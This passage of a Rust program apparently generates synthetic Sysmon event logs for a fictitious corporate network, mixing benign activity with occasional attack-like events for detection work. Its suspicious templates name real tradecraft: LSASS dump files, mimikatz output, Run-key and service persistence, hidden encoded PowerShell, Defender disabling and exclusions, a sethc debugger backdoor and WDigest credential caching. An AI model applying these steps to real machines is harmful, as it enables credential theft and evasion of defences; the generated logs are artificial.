        "wermgr.exe",
        "WerFault.exe",
        "consent.exe",
        "TiWorker.exe",
        "usocoreworker.exe",
        "MoUsoCoreWorker.exe",
        "CompatTelRunner.exe",
        "DeviceCensus.exe",
        "SppExtComObj.Exe",
        "dashost.exe",
        "WUDFHost.exe",
        "MusNotification.exe",
        "mobsync.exe",
        "unsecapp.exe",
        "SystemSettingsBroker.exe",
        "ApplicationFrameHost.exe",
        "OpenWith.exe",
        "PickerHost.exe",
        "LockApp.exe",
        "upfc.exe",
        "sdiagnhost.exe",
        "wsqmcons.exe",
        "InstallAgent.exe",
        "sppsvc.exe",
        "vssvc.exe",
        "TrustedInstaller.exe",
        "SecurityHealthService.exe",
        "SgrmBroker.exe",
        "spoolsv.exe",
        "defrag.exe",
        "dwm.exe",
        "fontdrvhost.exe",
    ];
    const CORE: &[&str] = &[
        "lsass.exe",
        "services.exe",
        "wininit.exe",
        "csrss.exe",
        "smss.exe",
        "winlogon.exe",
        "LogonUI.exe",
        "userinit.exe",
    ];
    const GUI: &[&str] = &[
        "notepad.exe",
        "explorer.exe",
        "mmc.exe",
        "taskmgr.exe",
        "mstsc.exe",
        "regedit.exe",
        "control.exe",
        "calc.exe",
        "mspaint.exe",
        "SnippingTool.exe",
        "charmap.exe",
        "osk.exe",
        "magnify.exe",
        "msinfo32.exe",
        "winver.exe",
        "ctfmon.exe",
        "cleanmgr.exe",
        "WindowsPowerShell\\v1.0\\powershell_ise.exe",
        "conhost.exe",
    ];
    for &(exe, ofn, desc, args) in SYSTEM32 {
        let base = exe.rsplit('\\').next().unwrap();
        let kind = if SERVICE_CHILD.contains(&base) {
            0
        } else if CORE.contains(&base) {
            3
        } else if GUI.contains(&exe) {
            1
        } else {
            2
        };
        let mut dirs = vec!["C:\\Windows\\System32\\"];
        if kind == 2 && !matches!(base, "powershell.exe") {
            dirs.push("C:\\Windows\\SysWOW64\\");
        }
        if base == "explorer.exe" {
            dirs = vec!["C:\\Windows\\"];
        }
        for d in dirs {
            let path = if exe == "powershell.exe" {
                format!("{d}WindowsPowerShell\\v1.0\\powershell.exe")
            } else {
                format!("{d}{exe}")
            };
            bins.push(Bin {
                hashes: hashes_for(&path),
                name: base.to_string(),
                path,
                ofn,
                desc,
                company: "Microsoft Corporation",
                product: "Microsoft® Windows® Operating System",
                args,
                kind,
                user_dir: false,
            });
        }
    }
    for &(path, ofn, desc, args) in PROGRAMS {
        let name = path.rsplit('\\').next().unwrap().to_string();
        let company = company_for(path);
        bins.push(Bin {
            hashes: hashes_for(path),
            path: path.to_string(),
            name,
            ofn,
            desc,
            company,
            product: desc,
            args,
            kind: if path.contains("Defender")
                || path.contains("VMware")
                || path.contains("SQL Server\\MSSQL")
                || path.contains("CrowdStrike")
                || path.contains("splunk")
                || path.contains("Splunk")
                || path.contains("NVIDIA")
                || path.contains("Realtek")
                || path.contains("Intel")
                || path.contains("ClickToRun")
            {
                0
            } else {
                1
            },
            user_dir: false,
        });
    }
    for &(rel, ofn, desc, args) in USER_APPS {
        let name = rel.rsplit('\\').next().unwrap().to_string();
        bins.push(Bin {
            hashes: hashes_for(rel),
            path: rel.to_string(),
            name,
            ofn,
            desc,
            company: company_for(rel),
            product: desc,
            args,
            kind: 1,
            user_dir: true,
        });
    }
    bins
}

fn company_for(path: &str) -> &'static str {
    let p = path.to_ascii_lowercase();
    for (needle, company) in [
        ("google", "Google LLC"),
        ("microsoft", "Microsoft Corporation"),
        ("windows", "Microsoft Corporation"),
        ("office", "Microsoft Corporation"),
        ("onedrive", "Microsoft Corporation"),
        ("teams", "Microsoft Corporation"),
        ("dotnet", "Microsoft Corporation"),
        ("mozilla", "Mozilla Corporation"),
        ("adobe", "Adobe Inc."),
        ("7-zip", "Igor Pavlov"),
        ("git", "The Git Development Community"),
        ("python", "Python Software Foundation"),
        ("java", "Oracle Corporation"),
        ("vmware", "VMware, Inc."),
        ("zoom", "Zoom Video Communications, Inc."),
        ("slack", "Slack Technologies, Inc."),
    ] {
        if p.contains(needle) {
            return company;
        }
    }
    "-"
}

struct Proc {
    image: String,
    ofn: String,
    desc: &'static str,
    company: &'static str,
    product: &'static str,
    cmd: String,
    pimage: String,
    pcmd: String,
    user: String,
    integ: String,
    hashes: String,
    susp: bool,
}

struct Gen {
    rng: Rng,
    bins: Vec<Bin>,
    /// Indices into `bins` by kind, weighted: common binaries appear several times.
    by_kind: [Vec<usize>; 4],
    hosts: Vec<String>,
    enc_blobs: Vec<String>,
    susp: f64,
    t_ms: u64,
    sids: Vec<String>,
}

const BASE_EPOCH_S: u64 = 1_714_521_600; // 2024-05-01T00:00:00Z

fn civil(days: u64) -> (u64, u64, u64) {
    // days since 1970-01-01 -> (y, m, d); Howard Hinnant's algorithm.
    let z = days as i64 + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    ((if m <= 2 { y + 1 } else { y }) as u64, m as u64, d as u64)
}

impl Gen {
    fn new(seed: u64, susp: f64) -> Self {
        let bins = build_bins();
        let mut by_kind: [Vec<usize>; 4] = Default::default();
        for (i, b) in bins.iter().enumerate() {
            // Weight very common processes up.
            let w = match b.name.as_str() {
                "svchost.exe" => 12,
                "conhost.exe" => 10,
                "chrome.exe" | "msedge.exe" | "Teams.exe" => 8,
                "RuntimeBroker.exe" | "backgroundTaskHost.exe" | "dllhost.exe" => 5,
                "cmd.exe" | "git.exe" | "Code.exe" => 4,
                "powershell.exe" | "OneDrive.exe" | "OUTLOOK.EXE" | "taskhostw.exe" => 3,
                _ => 1,
            };
            for _ in 0..w {
                by_kind[b.kind as usize].push(i);
            }
        }
        let hosts = (1..=80)
            .map(|i| format!("WS{i:03}.corp.local"))
            .chain(
                [
                    "SRV-DC01",
                    "SRV-DC02",
                    "SRV-FILE01",
                    "SRV-SQL01",
                    "SRV-WEB01",
                    "SRV-EXCH01",
                    "SRV-APP01",
                    "SRV-APP02",
                ]
                .iter()
                .map(|s| format!("{s}.corp.local")),
            )
            .collect();
        let enc_blobs = ENC_SNIPPETS.iter().map(|s| utf16le_b64(s)).collect();
        let sids = (0..USERS.len())
            .map(|i| format!("S-1-5-21-3623811015-3361044348-30300820-{}", 1104 + i))
            .collect();
        Gen {
            rng: Rng(seed ^ 0x5EED_0000_0000_0001),
            bins,
            by_kind,
            hosts,
            enc_blobs,
            susp,
            t_ms: 0,
            sids,
        }
    }

    fn times(&mut self) -> (String, String) {
        self.t_ms += 1 + self.rng.below(60) as u64;
        let total_ms = BASE_EPOCH_S * 1000 + self.t_ms;
        let secs = total_ms / 1000;
        let ms = total_ms % 1000;
        let (y, m, d) = civil(secs / 86_400);
        let sod = secs % 86_400;
        let (hh, mm, ss) = (sod / 3600, sod / 60 % 60, sod % 60);
        (
            format!("{y:04}-{m:02}-{d:02} {hh:02}:{mm:02}:{ss:02}.{ms:03}"),
            format!("{y:04}-{m:02}-{d:02}T{hh:02}:{mm:02}:{ss:02}.{ms:03}0000Z"),
        )
    }

    fn guid(&mut self) -> String {
        let a = self.rng.next();
        let b = self.rng.next();
        format!(
            "{{{:08x}-{:04x}-{:04x}-{:04x}-{:012x}}}",
            (a >> 32) as u32,
            (a >> 16) as u16,
            a as u16,
            (b >> 48) as u16,
            b & 0xffff_ffff_ffff
        )
    }

    fn ext_ip(&mut self) -> String {
        let nets: [(u64, u64); 6] = [(185, 0), (45, 0), (198, 51), (203, 0), (91, 0), (104, 0)];
        let (a, b) = nets[self.rng.below(nets.len())];
        let b = if b == 0 { self.rng.range(1, 254) } else { b };
        format!(
            "{a}.{b}.{}.{}",
            self.rng.range(0, 255),
            self.rng.range(1, 254)
        )
    }

    fn int_ip(&mut self) -> String {
        format!("10.0.{}.{}", self.rng.range(0, 7), self.rng.range(2, 254))
    }

    fn token(&mut self) -> String {
        hex_from(self.rng.next(), 8, false)
    }

    /// Expand `{{U}}`-style placeholders of `tpl` into `out`.
    fn fill(&mut self, tpl: &str, user: &str, out: &mut String) {
        out.clear();
        let mut rest = tpl;
        // One random token per template so repeated {{R}} agree (a file and its path).
        let mut r_tok: Option<String> = None;
        while let Some(i) = rest.find("{{") {
            out.push_str(&rest[..i]);
            let after = &rest[i + 2..];
            let Some(j) = after.find("}}") else {
                out.push_str(&rest[i..]);
                return;
            };
            match &after[..j] {
                "U" => out.push_str(user),
                "IP" => {
                    let ip = self.ext_ip();
                    out.push_str(&ip)
                }
                "R" => {
                    if r_tok.is_none() {
                        r_tok = Some(self.token());
                    }
                    out.push_str(r_tok.as_ref().unwrap())
                }
                "B64" => {
                    let k = self.rng.below(self.enc_blobs.len());
                    out.push_str(&self.enc_blobs[k])
                }
                "PID" => {
                    let _ = write!(out, "{}", self.rng.range(500, 1200));
                }
                "H" => {
                    let k = self.rng.below(self.hosts.len());
                    let h = self.hosts[k].split('.').next().unwrap().to_string();
                    out.push_str(&h)
                }
                other => {
                    out.push_str("{{");
                    out.push_str(other);
                    out.push_str("}}");
                }
            }
            rest = &after[j + 2..];
        }
        out.push_str(rest);
    }

    fn bin_path(&self, b: &Bin, user: &str) -> String {
        if b.user_dir {
            format!("C:\\Users\\{user}\\{}", b.path)
        } else {
            b.path.clone()
        }
    }

    fn pick_user(&mut self) -> usize {
        self.rng.below(USERS.len())
    }

    fn header(&self, o: &mut Obj, eid: u64, channel: &str, provider: &str, host: &str, tc: &str) {
        o.n("EventID", eid)
            .s("Channel", channel)
            .s("Provider_Name", provider)
            .s("Computer", host)
            .s("TimeCreated", tc);
    }

    /// A process for process-creation style events.
    fn process(&mut self, allow_susp: bool) -> Proc {
        let ui = self.pick_user();
        let uname = USERS[ui];
        if allow_susp && self.rng.chance(0.008 * self.susp) {
            let &(img, ofn, cmd, pimg, pcmd) = self.rng.pick(SUSP_PROC);
            let mut t = String::new();
            self.fill(img, uname, &mut t);
            let image = t.clone();
            self.fill(ofn, uname, &mut t);
            let ofn = t.clone();
            self.fill(cmd, uname, &mut t);
            let cmdline = t.clone();
            self.fill(pimg, uname, &mut t);
            let pimage = t.clone();
            self.fill(pcmd, uname, &mut t);
            let pcmdline = t.clone();
            let integrity = if self.rng.chance(0.5) {
                "High"
            } else {
                "Medium"
            };
            let hashes = hashes_for(&image);
            return Proc {
                image,
                ofn,
                desc: "-",
                company: "-",
                product: "-",
                cmd: cmdline,
                pimage,
                pcmd: pcmdline,
                user: format!("CORP\\{uname}"),
                integ: integrity.into(),
                hashes,
                susp: true,
            };
        }
        let kind = match self.rng.below(100) {
            0..=54 => 0,
            55..=93 => 1,
            94..=98 => 2,
            _ => 3,
        };
        let bi = *self.rng.pick(&self.by_kind[kind]);
        let b = &self.bins[bi];
        let image = self.bin_path(b, uname);
        let all_args = b.args;
        let ofn = b.ofn.to_string();
        let desc = b.desc;
        let (company, product) = (b.company, b.product);
        let name = b.name.clone();
        let hashes = b.hashes.clone();
        let args = all_args[self.rng.below(all_args.len())];
        let mut t = String::new();
        self.fill(args, uname, &mut t);
        let cmdline = if t.is_empty() {
            if self.rng.chance(0.5) {
                format!("\"{image}\"")
            } else {
                image.clone()
            }
        } else if self.rng.chance(0.7) {
            format!("\"{image}\" {t}")
        } else {
            format!("{name} {t}")
        };
        let (pimage, pcmd, user, integrity) = match kind {
            0 => {
                let sys = *self.rng.pick(&[
                    "NT AUTHORITY\\SYSTEM",
                    "NT AUTHORITY\\LOCAL SERVICE",
                    "NT AUTHORITY\\NETWORK SERVICE",
                ]);
                if name == "svchost.exe"
                    || name.ends_with("MsMpEng.exe")
                    || kind == 0 && self.rng.chance(0.3)
                {
                    (
                        "C:\\Windows\\System32\\services.exe".to_string(),
                        "C:\\Windows\\system32\\services.exe".to_string(),
                        sys.to_string(),
                        "System".to_string(),
                    )
                } else {
                    let k = *self.rng.pick(&[
                        "-k DcomLaunch -p",
                        "-k netsvcs -p -s Schedule",
                        "-k LocalServiceNetworkRestricted -p",
                    ]);
                    (
                        "C:\\Windows\\System32\\svchost.exe".to_string(),
                        format!("C:\\Windows\\system32\\svchost.exe {k}"),
                        sys.to_string(),
                        "System".to_string(),
                    )
                }
            }
            1 => {
                let same = matches!(
                    name.as_str(),
                    "chrome.exe"
                        | "msedge.exe"
                        | "Teams.exe"
                        | "firefox.exe"
                        | "Code.exe"
                        | "slack.exe"
                );
                if name == "conhost.exe" {
                    let (p, pc) = *self.rng.pick(&[
                        (
                            "C:\\Windows\\System32\\cmd.exe",
                            "\"C:\\Windows\\system32\\cmd.exe\" ",
                        ),
                        (
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
                        ),
                        ("C:\\Program Files\\Git\\cmd\\git.exe", "git status"),
                    ]);
                    (
                        p.into(),
                        pc.into(),
                        format!("CORP\\{uname}"),
                        "Medium".into(),
                    )
                } else if same && self.rng.chance(0.7) {
                    (
                        image.clone(),
                        format!("\"{image}\""),
                        format!("CORP\\{uname}"),
                        "Medium".into(),
                    )
                } else {
                    (
                        "C:\\Windows\\explorer.exe".into(),
                        "C:\\Windows\\Explorer.EXE".into(),
                        format!("CORP\\{uname}"),
                        "Medium".into(),
                    )
                }
            }
            2 => {
                let parents = [
                    (
                        "C:\\Windows\\System32\\cmd.exe",
                        "\"C:\\Windows\\system32\\cmd.exe\" ",
                    ),
                    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
                    (
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
                    ),
                    (
                        "C:\\Windows\\System32\\svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    ),
                ];
                let (p, pc) = parents[self.rng.below(parents.len())];
                let integ = if self.rng.chance(0.15) {
                    "High"
                } else {
                    "Medium"
                };
                (p.into(), pc.into(), format!("CORP\\{uname}"), integ.into())
            }
            _ => {
                let (p, pc) = match name.as_str() {
                    "services.exe" | "lsass.exe" => {
                        ("C:\\Windows\\System32\\wininit.exe", "wininit.exe")
                    }
                    "userinit.exe" => ("C:\\Windows\\System32\\winlogon.exe", "winlogon.exe"),
                    "LogonUI.exe" | "userinit.exe " => {
                        ("C:\\Windows\\System32\\winlogon.exe", "winlogon.exe")
                    }
                    _ => (
                        "C:\\Windows\\System32\\smss.exe",
                        "\\SystemRoot\\System32\\smss.exe 000000b4 00000084",
                    ),
                };
                (
                    p.into(),
                    pc.into(),
                    "NT AUTHORITY\\SYSTEM".into(),
                    "System".into(),
                )
            }
        };
        Proc {
            image,
            ofn,
            desc,
            company,
            product,
            cmd: cmdline,
            pimage,
            pcmd,
            user,
            integ: integrity,
            hashes,
            susp: false,
        }
    }

    fn event(&mut self, out: &mut Vec<u8>) -> bool {
        let roll = self.rng.below(10_000);
        let hi = self.rng.below(self.hosts.len());
        let host = self.hosts[hi].clone();
        let (utc, tc) = self.times();
        let mut o = Obj::new(out);
        let sysmon = "Microsoft-Windows-Sysmon/Operational";
        let sysprov = "Microsoft-Windows-Sysmon";
        let mut susp = false;
        match roll {
            // ---- Sysmon 1: process creation (55 %)
            0..=5499 => {
                let Proc {
                    image,
                    ofn,
                    desc,
                    company,
                    product,
                    cmd,
                    pimage,
                    pcmd,
                    user,
                    integ,
                    hashes,
                    susp: s,
                } = self.process(true);
                susp = s;
                let pg = self.guid();
                let g = self.guid();
                let lg = self.guid();
                let cwd = if user.starts_with("CORP") {
                    format!("C:\\Users\\{}\\", &user[5..])
                } else {
                    "C:\\Windows\\system32\\".into()
                };
                self.header(&mut o, 1, sysmon, sysprov, &host, &tc);
                o.s("RuleName", "-")
                    .s("UtcTime", &utc)
                    .s("ProcessGuid", &g)
                    .n("ProcessId", self.rng.range(400, 65000))
                    .s("Image", &image)
                    .s("FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)")
                    .s("Description", desc)
                    .s("Product", product)
                    .s("Company", company)
                    .s("OriginalFileName", &ofn)
                    .s("CommandLine", &cmd)
                    .s("CurrentDirectory", &cwd)
                    .s("User", &user)
                    .s("LogonGuid", &lg)
                    .s(
                        "LogonId",
                        &format!("0x{:x}", self.rng.range(0x3e7, 0xfffff)),
                    )
                    .n("TerminalSessionId", self.rng.range(0, 2))
                    .s("IntegrityLevel", &integ)
                    .s("Hashes", &hashes)
                    .s("ParentProcessGuid", &pg)
                    .n("ParentProcessId", self.rng.range(400, 65000))
                    .s("ParentImage", &pimage)
                    .s("ParentCommandLine", &pcmd)
                    .s("ParentUser", &user);
            }
            // ---- Sysmon 3: network connection (8 %)
            5500..=6299 => {
                let ui = self.pick_user();
                let s = self.rng.chance(0.01 * self.susp);
                susp = s;
                let (image, dport, dhost) = if s {
                    let img = *self.rng.pick(&[
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "C:\\Windows\\System32\\rundll32.exe",
                        "C:\\Windows\\System32\\regsvr32.exe",
                        "C:\\Windows\\System32\\mshta.exe",
                        "C:\\Windows\\System32\\certutil.exe",
                        "C:\\Users\\Public\\svc.exe",
                        "C:\\Windows\\System32\\notepad.exe",
                    ]);
                    let port = *self.rng.pick(&[4444u64, 8080, 443, 1337, 3389, 5985, 9001]);
                    let dh = *self.rng.pick(SUSP_DOMAINS);
                    (img.to_string(), port, dh.to_string())
                } else {
                    let (img, ports, doms): (&str, &[u64], &[&str]) = *self.rng.pick(&[
                        (
                            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                            &[443u64, 443, 80][..],
                            BENIGN_DOMAINS,
                        ),
                        (
                            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                            &[443u64, 443, 80][..],
                            BENIGN_DOMAINS,
                        ),
                        (
                            "C:\\Windows\\System32\\svchost.exe",
                            &[443u64, 80, 135][..],
                            &[
                                "ctldl.windowsupdate.com",
                                "fe2.update.microsoft.com",
                                "settings-win.data.microsoft.com",
                                "time.windows.com",
                                "dc01.corp.local",
                                "fileserver.corp.local",
                            ][..],
                        ),
                        (
                            "C:\\Program Files\\Windows Defender\\MsMpEng.exe",
                            &[443u64][..],
                            &["wdcp.microsoft.com", "definitionupdates.microsoft.com"][..],
                        ),
                        (
                            "C:\\Windows\\System32\\lsass.exe",
                            &[88u64, 389, 445][..],
                            &["dc01.corp.local", "dc02.corp.local"][..],
                        ),
                        (
                            "C:\\Program Files\\Git\\mingw64\\bin\\git.exe",
                            &[443u64][..],
                            &["github.com", "dev.azure.com"][..],
                        ),
                    ]);
                    let port = *self.rng.pick(ports);
                    let dh = *self.rng.pick(doms);
                    (img.to_string(), port, dh.to_string())
                };
                let g = self.guid();
                let sip = self.int_ip();
                let dip = if dhost.ends_with("corp.local") {
                    self.int_ip()
                } else {
                    self.ext_ip()
                };
                let user = if image.contains("svchost")
                    || image.contains("MsMpEng")
                    || image.contains("lsass")
                {
                    "NT AUTHORITY\\SYSTEM".to_string()
                } else {
                    format!("CORP\\{}", USERS[ui])
                };
                self.header(&mut o, 3, sysmon, sysprov, &host, &tc);
                o.s("RuleName", "-")
                    .s("UtcTime", &utc)
                    .s("ProcessGuid", &g)
                    .n("ProcessId", self.rng.range(400, 65000))
                    .s("Image", &image)
                    .s("User", &user)
                    .s("Protocol", "tcp")
                    .s("Initiated", "true")
                    .s("SourceIsIpv6", "false")
                    .s("SourceIp", &sip)
                    .s("SourceHostname", &host)
                    .n("SourcePort", self.rng.range(49152, 65535))
                    .s("SourcePortName", "-")
                    .s("DestinationIsIpv6", "false")
                    .s("DestinationIp", &dip)
                    .s("DestinationHostname", &dhost)
                    .n("DestinationPort", dport)
                    .s(
                        "DestinationPortName",
                        match dport {
                            443 => "https",
                            80 => "http",
                            445 => "microsoft-ds",
                            389 => "ldap",
                            88 => "kerberos",
                            53 => "domain",
                            _ => "-",
                        },
                    );
            }
            // ---- Sysmon 7: image load (8 %)
            6300..=7099 => {
                let s = self.rng.chance(0.01 * self.susp);
                susp = s;
                let (proc_img, loaded, signed) = if s {
                    let pair = *self.rng.pick(&[
                        ("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\dbghelp.dll", true),
                        ("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll", true),
                        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Windows\\System32\\vbscript.dll", true),
                        ("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System.Management.Automation\\v4.0_3.0.0.0__31bf3856ad364e35\\System.Management.Automation.dll", true),
                        ("C:\\Windows\\System32\\notepad.exe", "C:\\Windows\\System32\\samlib.dll", true),
                        ("C:\\Users\\Public\\svc.exe", "C:\\Users\\Public\\version.dll", false),
                        ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\Temp\\wbemcomn.dll", false),
                        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "C:\\Windows\\System32\\clr.dll", true),
                        ("C:\\Windows\\System32\\mshta.exe", "C:\\Windows\\System32\\jscript9.dll", true),
                    ]);
                    (pair.0.to_string(), pair.1.to_string(), pair.2)
                } else {
                    let k = self.rng.below(3);
                    let bi = *self.rng.pick(&self.by_kind[k]);
                    let ui = self.pick_user();
                    let p = self.bin_path(&self.bins[bi], USERS[ui]);
                    let dll = *self.rng.pick(DLLS);
                    (p, format!("C:\\Windows\\System32\\{dll}"), true)
                };
                let g = self.guid();
                let ofn = loaded.rsplit('\\').next().unwrap_or("").to_string();
                self.header(&mut o, 7, sysmon, sysprov, &host, &tc);
                o.s("RuleName", "-")
                    .s("UtcTime", &utc)
                    .s("ProcessGuid", &g)
                    .n("ProcessId", self.rng.range(400, 65000))
                    .s("Image", &proc_img)
                    .s("ImageLoaded", &loaded)
                    .s("FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)")
                    .s("Description", "-")
                    .s("Product", "Microsoft® Windows® Operating System")
                    .s("Company", "Microsoft Corporation")
                    .s("OriginalFileName", &ofn)
                    .s("Hashes", &hashes_for(&loaded))
                    .s("Signed", if signed { "true" } else { "false" })
                    .s("Signature", if signed { "Microsoft Windows" } else { "" })
                    .s(
                        "SignatureStatus",
                        if signed { "Valid" } else { "Unavailable" },
                    )
                    .s("User", "NT AUTHORITY\\SYSTEM");
            }
            // ---- Sysmon 11: file create (6 %)
            7100..=7699 => {
                let ui = self.pick_user();
                let u = USERS[ui];
                let s = self.rng.chance(0.01 * self.susp);
                susp = s;
                let (img, tpl) = if s {
                    *self.rng.pick(&[
                        ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Users\\{{U}}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{{R}}.lnk"),
                        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Users\\{{U}}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{{R}}.exe"),
                        ("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\Temp\\lsass.dmp"),
                        ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Users\\{{U}}\\AppData\\Local\\Temp\\{{R}}.ps1"),
                        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "C:\\Users\\{{U}}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\X1Y2Z3\\invoice.hta"),
                        ("C:\\Windows\\System32\\certutil.exe", "C:\\Users\\Public\\{{R}}.exe"),
                        ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\Tasks\\{{R}}"),
                        ("C:\\Users\\{{U}}\\Downloads\\m.exe", "C:\\Users\\Public\\mimikatz.log"),
                        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Users\\{{U}}\\Downloads\\invoice.iso"),
                        ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\drivers\\{{R}}.sys"),
                    ])
                } else {
                    *self.rng.pick(&[
                        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Users\\{{U}}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{{R}}"),
                        ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "C:\\Users\\{{U}}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\f_{{R}}"),
                        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Users\\{{U}}\\AppData\\Roaming\\Microsoft\\Word\\~WRL{{R}}.tmp"),
                        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "C:\\Users\\{{U}}\\Documents\\~${{R}}.xlsx"),
                        ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\Prefetch\\CHROME.EXE-{{R}}.pf"),
                        ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\ServiceProfiles\\LocalService\\AppData\\Local\\lastalive0.dat"),
                        ("C:\\Program Files\\Windows Defender\\MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\CacheManager\\{{R}}.bin"),
                        ("C:\\Program Files\\Git\\mingw64\\bin\\git.exe", "C:\\Users\\{{U}}\\src\\app\\.git\\objects\\pack\\tmp_pack_{{R}}"),
                        ("C:\\Users\\{{U}}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "C:\\Users\\{{U}}\\OneDrive - Corp\\Documents\\{{R}}.docx"),
                        ("C:\\Windows\\explorer.exe", "C:\\Users\\{{U}}\\Downloads\\report-{{R}}.pdf"),
                        ("C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\Installer\\{{R}}.msi"),
                        ("C:\\Program Files\\Python311\\python.exe", "C:\\Users\\{{U}}\\src\\tools\\__pycache__\\report.cpython-311.pyc"),
                    ])
                };
                let mut t = String::new();
                self.fill(img, u, &mut t);
                let image = t.clone();
                self.fill(tpl, u, &mut t);
                let target = t.clone();
                let g = self.guid();
                self.header(&mut o, 11, sysmon, sysprov, &host, &tc);
                o.s("RuleName", "-")
                    .s("UtcTime", &utc)
                    .s("ProcessGuid", &g)
                    .n("ProcessId", self.rng.range(400, 65000))
                    .s("Image", &image)
                    .s("TargetFilename", &target)
                    .s("CreationUtcTime", &utc)
                    .s("User", &format!("CORP\\{u}"));
            }
            // ---- Sysmon 12/13: registry (2 % + 4 %)
            7700..=8299 => {
                let set = roll >= 7900;
                let ui = self.pick_user();
                let u = USERS[ui];
                let sid = self.sids[ui].clone();
                let s = self.rng.chance(0.01 * self.susp);
                susp = s;
                let (img, key, details) = if s {
                    *self.rng.pick(&[
                        ("C:\\Windows\\System32\\reg.exe", "HKU\\{{SID}}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{{R}}", "C:\\Users\\{{U}}\\AppData\\Roaming\\{{R}}.exe"),
                        ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "powershell.exe -w hidden -enc SQBFAFgA"),
                        ("C:\\Windows\\System32\\services.exe", "HKLM\\System\\CurrentControlSet\\Services\\{{R}}\\ImagePath", "C:\\Users\\Public\\{{R}}.exe"),
                        ("C:\\Windows\\System32\\reg.exe", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "DWORD (0x00000001)"),
                        ("C:\\Windows\\System32\\reg.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger", "C:\\Windows\\System32\\cmd.exe"),
                        ("C:\\Windows\\regedit.exe", "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin", "DWORD (0x00000000)"),
                        ("C:\\Windows\\System32\\reg.exe", "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000001)"),
                        ("C:\\Users\\Public\\svc.exe", "HKU\\{{SID}}\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)", "C:\\Users\\Public\\svc.exe"),
                        ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public", "DWORD (0x00000000)"),
                    ])
                } else {
                    *self.rng.pick(&[
                        ("C:\\Windows\\explorer.exe", "HKU\\{{SID}}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\{{R}}", "Binary Data"),
                        ("C:\\Windows\\System32\\svchost.exe", "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{{SID}}\\\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe", "Binary Data"),
                        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "HKU\\{{SID}}\\Software\\Google\\Chrome\\PreferenceMACs\\Default\\session.restore_on_startup", "5B3D1C2A"),
                        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "HKU\\{{SID}}\\Software\\Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document 0\\Position", "0 0"),
